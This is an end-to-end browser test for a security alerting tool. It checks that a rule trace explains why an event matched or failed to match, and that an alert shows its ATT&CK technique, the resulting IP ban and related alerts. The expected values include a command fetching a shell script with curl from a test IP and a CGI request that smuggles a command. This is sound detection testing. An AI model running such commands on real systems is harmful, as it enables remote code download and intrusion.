// Rule traces and the evidence of an alert in a real browser (issue 19): a viewer opens an
// alert, asks why its event matched and sees each entry of the rule marked as holding; on the
// Rules page asks why another stored event did not match and sees the failing field and the
// event's value; on the Alerts page the ban caused by the alert links to it.
//
// Environment: VIGIL_URL, VIGIL_USER, VIGIL_PASSWORD, ALERT_ID, RULE_ID, MISS_SEQ (required);
// ARTIFACTS (screenshots); CHROMIUM (default /usr/bin/chromium).
// Prints one PASS line per step and "STEPS PASSED" at the end; exits 1 at the first failure.

import { join } from 'node:path';
import { setup, assert } from './lib.mjs';

const t = await setup(['ALERT_ID', 'RULE_ID', 'MISS_SEQ']);
const { page, context, gotoHash } = t;
const { ALERT_ID, RULE_ID, MISS_SEQ, ARTIFACTS } = t.env;

await t.step('log in as a viewer', async () => {
  await t.login();
});

await t.step('the alert explains why its event matched, entry by entry', async () => {
  await gotoHash(`#/alerts/${ALERT_ID}`);
  await page.waitForSelector('[data-testid=alert-event]');
  await page.click('[data-testid=alert-event] summary');
  await page.click('[data-testid=alert-event] [data-testid=trace-button]');
  const result = page.locator('[data-testid=alert-event] [data-testid=trace-rule-result]').first();
  await result.waitFor();
  assert(await result.getAttribute('data-matched') === 'true', 'the trace says the rule matched');
  const summary = await result.locator('[data-testid=trace-summary]').textContent();
  assert(summary.startsWith('matched') && summary.includes('selection'), `summary: ${summary}`);
  const entries = await result.locator('[data-testid=trace-entry]').evaluateAll((rows) => rows.map((r) => [r.dataset.field, r.dataset.holds, r.textContent]));
  assert(entries.length === 2, JSON.stringify(entries));
  assert(entries.every(([, holds]) => holds === 'true'), `every entry holds: ${JSON.stringify(entries)}`);
  const cmd = entries.find(([f]) => f === 'process.command_line');
  assert(cmd && cmd[2].includes('contains') && cmd[2].includes('curl http://198.51.100.9/x.sh'), `the command line entry: ${JSON.stringify(cmd)}`);
  await page.screenshot({ path: join(ARTIFACTS, 'alert-trace.png'), fullPage: true });
});

await t.step('the alert carries its evidence: description, ATT&CK once, the ban, related alerts, a readable event', async () => {
  await gotoHash(`#/alerts/${ALERT_ID}`);
  await page.waitForSelector('[data-testid=rule-description]');
  const desc = await page.textContent('[data-testid=rule-description]');
  assert(desc === 'root fetched something with curl from a web server', `description: ${desc}`);
  const techniques = await page.locator('[data-testid=attack-technique]').evaluateAll((as) => as.map((a) => [a.textContent, a.getAttribute('href')]));
  assert(techniques.length === 1, `one chip for attack.t1059.004 and t1059.004: ${JSON.stringify(techniques)}`);
  assert(techniques[0][0] === 'T1059.004 Unix Shell' && techniques[0][1] === 'https://attack.mitre.org/techniques/T1059/004/', JSON.stringify(techniques));
  assert(await page.textContent('[data-testid=attack-tactic]') === 'execution', 'the tactic');
  await page.waitForFunction(() => (document.querySelector('[data-testid=alert-ban]') || {}).textContent.includes('203.0.113.77'));
  const related = page.locator('[data-testid=related-alert]');
  await related.first().waitFor();
  const rel = await related.allTextContents();
  assert(rel.length === 1 && rel[0].includes('Root activity from the network') && rel[0].includes('203.0.113.77'), `related: ${JSON.stringify(rel)}`);
  const summary = await page.textContent('[data-testid=alert-event] .event-message');
  assert(summary === '203.0.113.77 GET /cgi-bin/run?cmd=curl → 200', `event summary: ${summary}`);
  await page.screenshot({ path: join(ARTIFACTS, 'alert-evidence.png'), fullPage: true });
});

await t.step('the Rules page explains why another event did not match', async () => {
  await gotoHash(`#/rules?rule=${encodeURIComponent(RULE_ID)}&seq=${MISS_SEQ}`);
  const result = page.locator('#trace-panel [data-testid=trace-rule-result]');
  await result.waitFor();
  assert(await result.getAttribute('data-matched') === 'false', 'the trace says the rule did not match');
  const summary = await result.locator('[data-testid=trace-summary]').textContent();
  assert(summary.includes('user.name') && summary.includes('[root]') && summary.includes('bob'), `summary names the field, the rule's value and the event's: ${summary}`);
  const user = result.locator('[data-testid=trace-entry][data-field="user.name"]');
  assert(await user.getAttribute('data-holds') === 'false', 'the user.name entry does not hold');
  assert((await user.textContent()).includes('bob'), 'the event value is shown');
  const cmd = result.locator('[data-testid=trace-entry][data-field="process.command_line"]');
  assert(await cmd.getAttribute('data-holds') === 'true', 'the command line entry holds');
  await page.screenshot({ path: join(ARTIFACTS, 'rules-trace.png'), fullPage: true });
});

await t.step('the ban links to the alert that caused it', async () => {
  await gotoHash('#/alerts?status=');
  const link = page.locator('#decisions-table [data-testid=ban-alert-link]').first();
  await link.waitFor();
  assert((await link.textContent()) === `#${ALERT_ID}`, `link text ${await link.textContent()}`);
  assert((await link.getAttribute('href')) === `#/alerts/${ALERT_ID}`, 'link target');
});

await t.done();
